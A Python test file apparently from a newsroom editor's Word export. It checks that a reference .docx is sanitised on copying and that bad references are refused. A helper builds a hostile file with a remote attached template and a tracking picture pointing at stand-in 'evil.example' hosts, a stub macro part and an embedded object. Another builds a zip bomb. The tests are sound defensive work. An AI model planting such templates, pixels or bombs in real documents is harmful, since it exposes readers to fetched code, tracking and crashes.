"""A reference .docx is checked like an imported Word file and copied without what Word would
fetch, run or unpack on opening: an attached template on a server, macros, embedded objects."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import parse_xml

from editordesk.assets import resource
from editordesk.document import nodes as n
from editordesk.errors import ValidationError
from editordesk.export.docx import render_docx
from editordesk.export.docx_reference import open_reference
from editordesk.store.db import Store

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
ATTACHED_TEMPLATE = f"{R}/attachedTemplate"
REMOTE_TEMPLATE = "https://templates.evil.example/normal.dotm"
REMOTE_PICTURE = "https://pixel.evil.example/open.png"

# An embedded object in a header, as Word writes one: the picture shown and the object.
OLE_RUN = f"""<w:r xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml"
 xmlns:o="urn:schemas-microsoft-com:office:office"><w:object><v:shape id="ole1"
 style="width:40pt;height:20pt"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1"
 DrawAspect="Icon" ObjectID="_1" r:id="{{ole}}"/></w:object></w:r>"""
LINKED_PICTURE_RUN = f"""<w:r xmlns:w="{W}" xmlns:r="{R}" xmlns:v="urn:schemas-microsoft-com:vml">
<w:pict><v:shape style="width:1pt;height:1pt"><v:imagedata r:id="{{link}}"/></v:shape></w:pict>
</w:r>"""


def hostile_reference(path: Path) -> Path:
    """EditorDesk's reference with a remote attached template, macros, an embedded object
    and a picture fetched from a server in its header (the footer keeps plain words)."""
    document = docx.Document(
        io.BytesIO(resource("templates", "docx", "reference.docx").read_bytes())
    )
    package = document.part.package
    settings_part = document.part._settings_part
    settings = settings_part.element
    template_id = settings_part.relate_to(REMOTE_TEMPLATE, ATTACHED_TEMPLATE, True)
    settings.insert(
        0, parse_xml(f'<w:attachedTemplate xmlns:w="{W}" xmlns:r="{R}" r:id="{template_id}"/>')
    )
    macros = Part(
        PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"VBA", package
    )
    document.part.relate_to(macros, VBA)
    section = document.sections[0]
    section.header.is_linked_to_previous = False
    header = section.header
    header.paragraphs[0].text = "Ellan Courier"
    header_part = header.part
    embedded = Part(
        PackURI("/word/embeddings/oleObject1.bin"),
        "application/vnd.openxmlformats-officedocument.oleObject",
        b"\xd0\xcf\x11\xe0 an object",
        package,
    )
    ole_id = header_part.relate_to(embedded, RT.OLE_OBJECT)
    link_id = header_part.relate_to(REMOTE_PICTURE, RT.IMAGE, True)
    header.paragraphs[0]._p.append(parse_xml(OLE_RUN.replace("{ole}", ole_id)))
    header.paragraphs[0]._p.append(parse_xml(LINKED_PICTURE_RUN.replace("{link}", link_id)))
    section.footer.is_linked_to_previous = False
    section.footer.paragraphs[0].text = "Page footer words"
    document.save(str(path))
    with zipfile.ZipFile(path) as archive:  # the file really holds what it should not
        names = archive.namelist()
        assert "word/vbaProject.bin" in names and "word/embeddings/oleObject1.bin" in names
        assert sum(b"evil.example" in archive.read(name) for name in names) == 2
    return path


def test_a_hostile_reference_is_copied_without_what_word_would_fetch_or_run(
    golden_article: n.Article, store: Store, tmp_path: Path
) -> None:
    reference = hostile_reference(tmp_path / "house.docx")
    data = render_docx(golden_article, store.media, reference=reference)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = archive.namelist()
        parts = {name: archive.read(name).decode("utf-8", "replace") for name in names}
    assert "word/vbaProject.bin" not in names
    assert not [name for name in names if name.startswith("word/embeddings/")]
    everything = "".join(parts.values())
    assert "evil.example" not in everything
    assert "attachedTemplate" not in everything and "vbaProject" not in everything
    assert "OLEObject" not in everything and "<w:object" not in everything
    for name, text in parts.items():  # what stays external is the story's own links
        if name.endswith(".rels"):
            for rel in re.findall(r"<Relationship [^>]*>", text):
                assert 'TargetMode="External"' not in rel or "/hyperlink" in rel, (name, rel)

    document = docx.Document(io.BytesIO(data))  # and Word's reader still opens it
    assert document.paragraphs[0].text == golden_article.story.headline
    assert document.sections[0].header.paragraphs[0].text == "Ellan Courier"
    assert document.sections[0].footer.paragraphs[0].text == "Page footer words"
    assert document.styles["Title"] is not None


def test_the_shipped_reference_loses_nothing(tmp_path: Path) -> None:
    template = open_reference(None)
    assert template.paragraph["Title"] and template.numbering["List Number"]


def _bomb(path: Path) -> Path:
    with (
        zipfile.ZipFile(
            io.BytesIO(resource("templates", "docx", "reference.docx").read_bytes())
        ) as src,
        zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
        dst.writestr("word/media/zeros.bin", bytes(40 * 1024 * 1024))
    return path


def _encrypted(path: Path) -> Path:
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4096))
    return path


def _damaged(path: Path) -> Path:
    source = io.BytesIO(resource("templates", "docx", "reference.docx").read_bytes())
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(path, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(
                info.filename, b"<w:styles>" if info.filename == "word/styles.xml" else data
            )
    return path


@pytest.mark.parametrize(
    ("make", "says"),
    [
        (_bomb, r"holds word/media/zeros.bin, which unpacks to 42 MB .* possible zip bomb"),
        (_encrypted, r"is password-protected or an old .doc"),
        (_damaged, r"its part word/styles.xml is not well-formed XML"),
    ],
)
def test_a_bad_reference_is_refused_before_it_is_unpacked(
    golden_article: n.Article, store: Store, tmp_path: Path, make: object, says: str
) -> None:
    reference = make(tmp_path / "house.docx")  # type: ignore[operator]
    with pytest.raises(ValidationError) as caught:
        render_docx(golden_article, store.media, reference=reference)
    message = str(caught.value)
    assert message.startswith(f"reference document {reference} ")
    assert re.search(says, message), message
    assert "\n" not in message
